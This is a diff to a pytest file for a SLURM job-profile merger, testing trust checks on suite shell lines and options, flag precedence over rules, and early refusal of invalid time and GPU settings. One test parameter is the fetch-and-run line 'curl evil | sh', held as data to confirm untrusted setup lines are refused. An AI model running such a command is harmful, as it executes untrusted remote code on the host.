@@ -46,12 +46,37 @@ def test_no_value_can_end_its_line_of_the_batch_script(key: str, value: str) -> 
         merged_profile(file={}, suite={key: value}, flags={}, trusted=True)
 
 
-@pytest.mark.parametrize("suite", [{"setup": ["curl evil | sh"]}, {"options": {"output": "/etc/passwd"}}])
+@pytest.mark.parametrize("suite", [{"setup": ["curl evil | sh"]}, {"options": {"mail-type": "END"}}])
 def test_shell_lines_and_options_of_a_suite_need_trust(suite: dict[str, object]) -> None:
     with pytest.raises(ConfigError, match="SLURM would run or obey") as error:
         merged_profile(file={}, suite=suite, flags={}, trusted=False)
     assert "--trust-cluster" in str(error.value)
     assert merged_profile(file={}, suite=suite, flags={}, trusted=True).model_dump(exclude_unset=True) == suite
+
+
+def test_flags_win_over_rules_too_and_a_suites_rules_come_after_the_files() -> None:
+    file = {"rules": [{"protocol": "finetune", "gpus": 4, "time_min": 720}]}
+    suite = {"rules": [{"protocol": "frozen", "time_min": 90}]}
+    profile = merged_profile(file=file, suite=suite, flags={"gpus": 2}, trusted=False)
+    said = [rule.model_dump(exclude_unset=True) for rule in profile.rules]
+    assert said == [{"protocol": "finetune", "time_min": 720}, {"protocol": "frozen", "time_min": 90}]
+
+
+@pytest.mark.parametrize(
+    ("values", "said"),
+    [
+        ({"time_min": 3}, "time_min is 3, of which jobs are told to stop 120 s ahead"),
+        ({"rules": [{"task": "detection", "time_min": 2}]}, "time_min is 2"),
+        ({"gpus": 2, "processes": 3}, "processes is 3 and gpus is 2"),
+        ({"options": {"output": "elsewhere"}}, "options.output is BoB's own"),
+    ],
+)
+def test_what_only_an_allocation_would_find_out_is_refused_before_anything_is_submitted(
+    values: dict[str, object], said: str
+) -> None:
+    with pytest.raises(ConfigError) as error:
+        merged_profile(file=values, suite={}, flags={}, trusted=False)
+    assert said in str(error.value) and error.value.hint
 
 
 def test_cluster_flags_without_the_executor_are_a_mistake(capsys: pytest.CaptureFixture[str]) -> None:
